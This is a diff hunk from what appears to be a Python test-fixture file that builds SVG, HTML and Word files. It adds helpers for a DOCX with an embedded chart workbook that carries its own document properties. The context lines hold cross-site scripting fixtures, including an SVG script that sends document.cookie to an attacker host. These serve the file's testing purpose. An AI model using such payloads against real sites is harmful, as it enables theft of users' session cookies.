@@ -315,3 +315,23 @@ SVG = (
     b"<script>fetch('https://attacker.example/'+document.cookie)</script></svg>"
 )
 HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
+
+
+def chart_workbook_bytes(*, creator: str = REPORTER_NAME, extra: dict[str, bytes] | None = None) -> bytes:
+    """The workbook Word/PowerPoint embed behind a chart (word/embeddings/*.xlsx): a package of its own,
+    with its own document properties."""
+    return zip_bytes(
+        {
+            "[Content_Types].xml": CONTENT_TYPES,
+            "_rels/.rels": PACKAGE_RELS,
+            "xl/workbook.xml": b'<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>',
+            "docProps/core.xml": core_xml(creator),
+            **(extra or {}),
+        }
+    )
+
+
+def docx_with_chart_bytes(**workbook) -> bytes:
+    return docx_bytes(
+        extra={"word/embeddings/Microsoft_Excel_Worksheet.xlsx": chart_workbook_bytes(**workbook)}
+    )
